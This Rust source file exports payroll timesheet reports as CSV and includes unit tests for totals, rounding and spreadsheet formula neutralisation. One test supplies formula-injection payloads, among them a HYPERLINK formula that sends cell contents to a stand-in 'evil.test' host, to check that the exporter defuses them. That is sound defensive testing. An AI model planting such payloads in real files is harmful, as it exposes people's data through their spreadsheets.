//! CSV for payroll: UTF-8 with BOM and CRLF line endings (what Excel on Windows and Numbers on macOS
//! open correctly), `;` or `,`, optional decimal comma, hours as `h:mm` or decimal.
//!
//! Columns, stable and in this order: employee_number, email, date, iso_week, first_in, last_out,
//! sessions, worked, lunch, net, lunch_outside_sessions, absences, open_session, time_zone. After each
//! employee's rows comes a `Total` row; then one `Week` row per ISO week, one `All` row, and a last
//! line stating the period, rounding and night-shift rule (and, for Protime data, the source).
//!
//! Protime and merged reports add, after `time_zone`: name, normal_time, time_present,
//! calculated_presence, flextime, flextime_balance; merged reports then add difference (TimeClock
//! worked minus Protime time present, for people matched in both systems) and
//! outside_tolerance (`yes`/`no`; in total rows, the number of such days). Total rows add up every
//! Protime duration except flextime_balance, a running balance that is left empty there. In decimal format every row is rounded to
//! hundredths of an hour first and the totals add those displayed values, so a total always equals
//! the sum of the rows above it.
//!
//! Last come the optional columns the user chose ([`super::optional_columns`]); their durations add
//! up in total rows like the others, their text is left empty there.

use super::engine::{DayRow, NightShifts, Report, ReportSource, RoundingScope};
use super::optional_columns::{self, Cell, OptionalColumn};
use serde::{Deserialize, Serialize};
use timebridge_core::spreadsheet_text::text_cell;

/// A text cell from people's data (numbers, e-mails, names, absence reasons): never a live formula
/// when payroll opens the file. Durations and counts do not go through here and stay numbers.
fn text(s: &str) -> String {
    text_cell(s).into_owned()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, specta::Type)]
pub enum HoursFormat {
    /// `8:45`
    HoursMinutes,
    /// `8.75` (or `8,75` with a decimal comma)
    Decimal,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, specta::Type)]
pub struct CsvOptions {
    /// `;` or `,`.
    pub delimiter: char,
    pub decimal_comma: bool,
    pub hours: HoursFormat,
    /// Optional columns to add ([`optional_columns::ALL`] gives their order).
    #[serde(default)]
    pub extra_columns: Vec<OptionalColumn>,
}

impl Default for CsvOptions {
    fn default() -> Self {
        Self {
            delimiter: ';',
            decimal_comma: true,
            hours: HoursFormat::HoursMinutes,
            extra_columns: Vec::new(),
        }
    }
}

pub const COLUMNS: [&str; 14] = [
    "employee_number",
    "email",
    "date",
    "iso_week",
    "first_in",
    "last_out",
    "sessions",
    "worked",
    "lunch",
    "net",
    "lunch_outside_sessions",
    "absences",
    "open_session",
    "time_zone",
];

/// A duration in the unit the CSV shows: minutes for `h:mm`, hundredths of an hour for decimal.
pub(super) fn unit(minutes: i64, hours: HoursFormat) -> i64 {
    match hours {
        HoursFormat::HoursMinutes => minutes,
        // Half up, symmetric for negatives.
        HoursFormat::Decimal => {
            let scaled = minutes * 100;
            if scaled >= 0 {
                (scaled + 30) / 60
            } else {
                -((-scaled + 30) / 60)
            }
        }
    }
}

fn show(units: i64, o: &CsvOptions) -> String {
    let sign = if units < 0 { "-" } else { "" };
    let a = units.abs();
    match o.hours {
        HoursFormat::HoursMinutes => format!("{sign}{}:{:02}", a / 60, a % 60),
        HoursFormat::Decimal => {
            let sep = if o.decimal_comma { ',' } else { '.' };
            format!("{sign}{}{sep}{:02}", a / 100, a % 100)
        }
    }
}

/// Columns added after `time_zone` when the report has Protime data (Protime and merged sources).
pub const PROTIME_COLUMNS: [&str; 6] = [
    "name",
    "normal_time",
    "time_present",
    "calculated_presence",
    "flextime",
    "flextime_balance",
];

/// Columns added after those for merged reports.
pub const MERGED_COLUMNS: [&str; 2] = ["difference", "outside_tolerance"];

/// The header of a report: the stable columns, then the source's extra ones.
pub fn columns(report: &Report) -> Vec<&'static str> {
    let mut c = COLUMNS.to_vec();
    if report.source.has_protime() {
        c.extend(PROTIME_COLUMNS);
    }
    if report.source == ReportSource::Merged {
        c.extend(MERGED_COLUMNS);
    }
    c
}

#[derive(Default, Clone)]
struct Sum {
    /// Sums of the optional duration columns, by position among the chosen ones.
    optional: Vec<i64>,
    sessions: u32,
    worked: i64,
    lunch: i64,
    net: i64,
    outside: i64,
    open: u32,
    normal: i64,
    present: i64,
    calculated: i64,
    flextime: i64,
    difference: i64,
    beyond: u32,
}

impl Sum {
    fn add(&mut self, r: &DayRow, h: HoursFormat) {
        self.sessions += r.sessions;
        self.worked += unit(r.worked_minutes, h);
        self.lunch += unit(r.lunch_minutes, h);
        self.net += unit(r.net_minutes, h);
        self.outside += unit(r.lunch_outside_minutes, h);
        self.open += r.open_session as u32;
        if let Some(p) = &r.protime {
            self.normal += unit(p.normal_minutes, h);
            self.present += unit(p.present_minutes, h);
            self.calculated += unit(p.calculated_minutes, h);
            self.flextime += unit(p.flextime_minutes, h);
        }
        self.difference += r.difference_minutes.map_or(0, |d| unit(d, h));
        self.beyond += r.outside_tolerance as u32;
    }

    fn add_optional(&mut self, r: &DayRow, columns: &[OptionalColumn], h: HoursFormat) {
        self.optional.resize(columns.len(), 0);
        for (k, c) in columns.iter().enumerate() {
            if let Cell::Minutes(Some(m)) = c.cell(r) {
                self.optional[k] += unit(m, h);
            }
        }
    }
}

/// The CSV as bytes (BOM included).
pub fn write(report: &Report, o: &CsvOptions) -> Result<Vec<u8>, String> {
    if o.delimiter != ';' && o.delimiter != ',' {
        return Err(format!(
            "'{}' is not a supported delimiter: use ';' or ','",
            o.delimiter
        ));
    }
    let optional = optional_columns::chosen(report, &o.extra_columns);
    let mut header: Vec<&str> = columns(report);
    header.extend(optional.iter().map(|c| c.csv_name()));
    let with_protime = report.source.has_protime();
    let merged = report.source == ReportSource::Merged;
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(o.delimiter as u8)
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        let e = |err: csv::Error| format!("cannot write the CSV: {err}");
        w.write_record(&header).map_err(e)?;
        let total_row = |w: &mut csv::Writer<&mut Vec<u8>>, label: &str, key: &str, s: &Sum| {
            let mut rec: Vec<String> = vec![
                label.into(),
                text(key),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
                s.sessions.to_string(),
                show(s.worked, o),
                show(s.lunch, o),
                show(s.net, o),
                show(s.outside, o),
                String::new(),
                s.open.to_string(),
                String::new(),
            ];
            if with_protime {
                rec.extend([
                    String::new(),
                    show(s.normal, o),
                    show(s.present, o),
                    show(s.calculated, o),
                    show(s.flextime, o),
                    // A balance is a running figure: adding balances up would mean nothing.
                    String::new(),
                ]);
            }
            if merged {
                rec.extend([show(s.difference, o), s.beyond.to_string()]);
            }
            for (k, c) in optional.iter().enumerate() {
                rec.push(if c.is_duration() {
                    show(s.optional.get(k).copied().unwrap_or(0), o)
                } else {
                    String::new()
                });
            }
            w.write_record(&rec)
        };
        let mut employee = Sum::default();
        let mut weeks: std::collections::BTreeMap<&str, Sum> = Default::default();
        let mut all = Sum::default();
        let time = |m: i64| show(unit(m, o.hours), o);
        for (i, r) in report.rows.iter().enumerate() {
            let mut rec: Vec<String> = vec![
                text(&r.employee_number),
                text(r.email.as_deref().unwrap_or_default()),
                r.date.clone(),
                r.iso_week.clone(),
                r.first_in.clone().unwrap_or_default(),
                r.last_out.clone().unwrap_or_default(),
                r.sessions.to_string(),
                time(r.worked_minutes),
                time(r.lunch_minutes),
                time(r.net_minutes),
                time(r.lunch_outside_minutes),
                text(&r.absences.join(" | ")),
                if r.open_session { "yes" } else { "no" }.into(),
                text(&r.zone),
            ];
            if with_protime {
                rec.push(text(r.name.as_deref().unwrap_or_default()));
                match &r.protime {
                    Some(p) => rec.extend([
                        time(p.normal_minutes),
                        time(p.present_minutes),
                        time(p.calculated_minutes),
                        time(p.flextime_minutes),
                        time(p.flextime_balance_minutes),
                    ]),
                    None => rec.extend(std::iter::repeat_n(String::new(), 5)),
                }
            }
            if merged {
                rec.push(r.difference_minutes.map(time).unwrap_or_default());
                rec.push(if r.outside_tolerance { "yes" } else { "no" }.into());
            }
            for c in &optional {
                rec.push(match c.cell(r) {
                    Cell::Minutes(m) => m.map(time).unwrap_or_default(),
                    Cell::Text(t) => t,
                });
            }
            w.write_record(&rec).map_err(e)?;
            for sum in [
                &mut employee,
                weeks.entry(&r.iso_week).or_default(),
                &mut all,
            ] {
                sum.add(r, o.hours);
                sum.add_optional(r, &optional, o.hours);
            }
            let last_of_employee = report
                .rows
                .get(i + 1)
                .is_none_or(|n| n.employee_number != r.employee_number);
            if last_of_employee {
                total_row(&mut w, "Total", &r.employee_number, &employee).map_err(e)?;
                employee = Sum::default();
            }
        }
        for (week, s) in &weeks {
            total_row(&mut w, "Week", week, s).map_err(e)?;
        }
        total_row(&mut w, "All", "", &all).map_err(e)?;
        let rounding = format!(
            "{}{}",
            report.options.rounding.describe(),
            match (
                report.options.rounding_scope,
                report.options.rounding.describe()
            ) {
                (_, "no rounding") => "",
                (RoundingScope::PerSession, _) => ", per session",
                (RoundingScope::PerDay, _) => ", per day",
            }
        );
        let night = match report.options.night_shifts {
            NightShifts::StartDay => "night shifts on the day they start",
            NightShifts::SplitAtMidnight => "night shifts split at midnight",
        };
        let source = match report.source {
            ReportSource::TimeClock => String::new(),
            ReportSource::Protime => ", Protime calculated totals".into(),
            ReportSource::Merged => format!(
                ", TimeClock 365 and Protime merged by employee number, difference = worked - time present, tolerance {} min",
                report.tolerance_minutes
            ),
        };
        let note = format!(
            "Period {} to {}, {rounding}, {night}, open sessions not counted{source}",
            report.from, report.to
        );
        let mut rec = vec![String::new(); header.len()];
        rec[0] = "Report".into();
        rec[1] = note;
        w.write_record(&rec).map_err(e)?;
        w.flush()
            .map_err(|err| format!("cannot write the CSV: {err}"))?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::timesheet::engine::{ReportOptions, Totals};

    fn row(n: &str, date: &str, worked: i64, lunch: i64) -> DayRow {
        DayRow {
            employee_number: n.into(),
            email: Some(format!("{n}@x.test")),
            date: date.into(),
            iso_week: "2025-W07".into(),
            first_in: Some("08:00".into()),
            last_out: Some("17:00".into()),
            sessions: 1,
            worked_minutes: worked,
            lunch_minutes: lunch,
            net_minutes: worked - lunch,
            lunch_outside_minutes: 0,
            absences: vec![],
            open_session: false,
            zone: "Europe/Brussels".into(),
            work_logs: vec![],
            name: None,
            groups: vec![],
            protime: None,
            difference_minutes: None,
            outside_tolerance: false,
            punches: vec![],
            absence_details: vec![],
            default_zone_used: false,
        }
    }

    fn report(rows: Vec<DayRow>) -> Report {
        Report {
            from: "2025-02-10".parse().unwrap(),
            to: "2025-02-16".parse().unwrap(),
            options: ReportOptions::default(),
            rows,
            per_employee: vec![],
            per_week: vec![],
            overall: Totals::default(),
            warnings: vec![],
            source: Default::default(),
            tolerance_minutes: 0,
            matching: None,
            expected: vec![],
        }
    }

    fn lines(bytes: &[u8]) -> Vec<String> {
        let text = std::str::from_utf8(bytes).unwrap();
        assert!(text.starts_with('\u{feff}'), "BOM");
        assert!(text.contains("\r\n"), "CRLF");
        text.trim_start_matches('\u{feff}')
            .lines()
            .map(str::to_string)
            .collect()
    }

    #[test]
    fn hours_minutes_with_totals() {
        let r = report(vec![
            row("1001", "2025-02-10", 505, 30),
            row("1001", "2025-02-11", 481, 0),
            row("1002", "2025-02-10", 60, 0),
        ]);
        let l = lines(&write(&r, &CsvOptions::default()).unwrap());
        assert_eq!(l[0], COLUMNS.join(";"));
        assert!(l[1].contains(";8:25;0:30;7:55;"), "{}", l[1]);
        assert!(
            l[3].starts_with("Total;1001;;;;;2;16:26;0:30;15:56;"),
            "{}",
            l[3]
        );
        assert!(l[5].starts_with("Total;1002;"), "{}", l[5]);
        assert!(l[6].starts_with("Week;2025-W07;;;;;3;17:26;"), "{}", l[6]);
        assert!(l[7].starts_with("All;;;;;;3;17:26;"), "{}", l[7]);
        assert!(
            l[8].starts_with("Report;Period 2025-02-10 to 2025-02-16, no rounding,"),
            "{}",
            l[8]
        );
    }

    #[test]
    fn decimal_totals_add_the_displayed_values() {
        // 1 minute = 0.0166… h, shown as 0.02; three rows show 0.02 each, so the total shows 0.06 (not 0.05).
        let r = report(vec![
            row("1001", "2025-02-10", 1, 0),
            row("1001", "2025-02-11", 1, 0),
            row("1001", "2025-02-12", 1, 0),
        ]);
        let o = CsvOptions {
            delimiter: ';',
            decimal_comma: true,
            hours: HoursFormat::Decimal,
            extra_columns: Vec::new(),
        };
        let l = lines(&write(&r, &o).unwrap());
        assert!(l[1].contains(";0,02;"), "{}", l[1]);
        assert!(l[4].starts_with("Total;1001;;;;;3;0,06;"), "{}", l[4]);
        let dot = CsvOptions {
            delimiter: ',',
            decimal_comma: false,
            hours: HoursFormat::Decimal,
            extra_columns: Vec::new(),
        };
        assert!(lines(&write(&r, &dot).unwrap())[1].contains(",0.02,"));
    }

    /// Every cell of the CSV that a spreadsheet would read as a formula, other than the durations
    /// (negative ones begin with `-` and must stay numbers).
    fn live_formulas(bytes: &[u8]) -> Vec<String> {
        let text = std::str::from_utf8(bytes)
            .unwrap()
            .trim_start_matches('\u{feff}');
        let mut r = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        let duration = |c: &str| {
            let c = c.strip_prefix('-').unwrap_or(c);
            let (h, m) = c.split_once(':').unwrap_or(("", ""));
            !h.is_empty() && h.bytes().all(|b| b.is_ascii_digit()) && m.len() == 2
        };
        r.records()
            .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .filter(|c| timebridge_core::spreadsheet_text::is_formula_like(c) && !duration(c))
            .collect()
    }

    #[test]
    fn hostile_text_cells_are_not_formulas_and_durations_stay_numbers() {
        let mut ann = row("=1+1", "2025-02-10", 480, 0);
        ann.email = Some("=HYPERLINK(\"http://evil.test/\"&A1,\"open\")".into());
        ann.absences = vec!["-sick; leave".into()];
        ann.name = Some("@SUM(A1:A9)".into());
        ann.difference_minutes = Some(-15);
        let mut bob = row("+32", "2025-02-10", 60, 0);
        bob.email = Some("\t=2+2@x.test".into());
        bob.zone = "\r=3+3".into();
        let mut r = report(vec![ann, bob]);
        r.source = ReportSource::Merged;
        let bytes = write(&r, &CsvOptions::default()).unwrap();
        assert_eq!(live_formulas(&bytes), Vec::<String>::new());
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("'=HYPERLINK("), "the e-mail is kept, as text");
        assert!(text.contains("Total;'=1+1;"), "the total row's key too");
        assert!(
            text.contains("\"'-sick; leave\""),
            "quoted, apostrophe first"
        );
        assert!(text.contains("'@SUM(A1:A9)"));
        assert!(
            text.contains(";-0:15;"),
            "a negative duration stays a number"
        );
        // The control test: without neutralising, the checker does see these cells.
        assert_eq!(live_formulas(b"=1+1;-0:15;@x\r\n").len(), 2);
    }

    #[test]
    fn unit_rounding_is_symmetric() {
        assert_eq!(unit(45, HoursFormat::Decimal), 75);
        assert_eq!(unit(-45, HoursFormat::Decimal), -75);
        assert_eq!(show(-15, &CsvOptions::default()), "-0:15");
        assert!(write(
            &report(vec![]),
            &CsvOptions {
                delimiter: '\t',
                ..Default::default()
            }
        )
        .is_err());
    }
}
